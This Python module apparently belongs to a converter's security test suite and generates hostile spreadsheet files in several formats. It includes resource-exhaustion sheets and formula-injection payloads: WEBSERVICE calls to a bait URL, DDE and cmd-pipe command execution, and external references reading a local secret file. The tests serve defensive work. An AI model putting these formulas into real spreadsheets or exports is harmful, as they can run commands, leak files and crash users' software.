"""Spreadsheets with cells at the end of the world, and formulas that fetch."""

from collections.abc import Iterator

from tests.hostile.bait import Bait
from tests.hostile.bombs import zipped
from tests.hostile.opendocuments import NAMESPACES
from tests.hostile.trial import Hostile

SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def files(bait: Bait) -> Iterator[Hostile]:
    """All of them."""
    cells = {
        "last cell": '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        "two corners": '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        "beyond": '<row r="99999999"><c r="ZZZZZ99999999"><v>1</v></c></row>',
        "minus": '<row r="-5"><c r="A-5"><v>1</v></c></row>',
        "circle": '<row r="1"><c r="A1"><f>B1</f></c><c r="B1"><f>A1</f></c></row>',
        "long formula": f'<row r="1"><c r="A1"><f>{"1+" * 4000}1</f></c></row>',
        "deep formula": f'<row r="1"><c r="A1"><f>{"(" * 20000}1{")" * 20000}</f></c></row>',
        "repeat": '<row r="1"><c r="A1"><f>REPT("x",32767)</f></c></row>'
        + "".join(f'<row r="{n}"><c r="A{n}"><f>A{n - 1}&amp;A{n - 1}</f></c></row>' for n in range(2, 40)),
        "wide sum": "".join(
            f'<row r="{n}"><c r="A{n}"><f>SUMPRODUCT((B:XFD=1)*(B:XFD=2))</f></c></row>' for n in range(1, 30)
        ),
        "web service": f'<row r="1"><c r="A1"><f>WEBSERVICE("{bait.url}/x")</f></c><c r="B1"><f>WEBSERVICE("file://{bait.text}")</f></c><c r="C1"><f>FILTERXML(WEBSERVICE("{bait.url}/x"),"/a")</f></c></row>',
        "exchange": f'<row r="1"><c r="A1"><f>DDE("soffice","file://{bait.text}","A1")</f></c><c r="B1"><f>cmd|"/c touch {bait.mark}"!A0</f></c></row>',
        "outer reference": f'<row r="1"><c r="A1"><f>\'file://{bait.folder}/secret.csv\'#$secret.A1</f></c><c r="B1"><f>\'file://{bait.folder}/[secret.csv]secret\'!A1</f></c></row>',
    }
    for title, rows in cells.items():
        yield Hostile(f"{title}.xlsx", _sheet(rows), ("csv", "pdf", "json", "html"))
    commands = f'=WEBSERVICE("{bait.url}/x")\n=cmd|"/c touch {bait.mark}"!A0\n=DDE("soffice";"file://{bait.text}";"A1")\n=HYPERLINK("{bait.url}")\n@SUM(1)\n'
    yield Hostile("formulas.csv", commands.encode(), ("xlsx", "pdf", "json"))
    yield Hostile("wide.csv", b"," * 2_000_000, ("xlsx", "json", "pdf"))
    yield Hostile("tall.csv", b"a\n" * 1_500_000, ("xlsx", "json"))
    yield Hostile("one quote.csv", b'a,b\n"' + b"x,\n" * 100_000, ("xlsx", "json"))
    slk = f'ID;PWXL;N;E\nC;X1;Y1;K0;EWEBSERVICE("{bait.url}/x")\nC;X16384;Y1048576;K1\nE\n'
    yield Hostile("formulas.slk", slk.encode(), ("xlsx", "csv", "pdf"))
    table = '<table:table table:name="x"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row></table:table>'
    outer = f'<table:table table:name="x"><table:table-source xlink:href="file://{bait.folder}/secret.csv" table:table-name="secret"/><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;{bait.url}/x&quot;)"/><table:table-cell table:formula="of:=\'file://{bait.folder}/secret.csv\'#$secret.A1"/></table:table-row></table:table>'
    for title, inner in (("repeated", table), ("elsewhere", outer)):
        content = f'<?xml version="1.0" encoding="UTF-8"?><office:document {NAMESPACES} office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.spreadsheet"><office:body><office:spreadsheet>{inner}</office:spreadsheet></office:body></office:document>'
        yield Hostile(f"{title}.fods", content.encode(), ("csv", "pdf", "xlsx"))


def _sheet(rows: str) -> bytes:
    return zipped(
        {
            "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
            "_rels/.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="x" sheetId="1" r:id="r1"/></sheets></workbook>'.encode(),
            "xl/_rels/workbook.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData></worksheet>'.encode(),
        }
    )
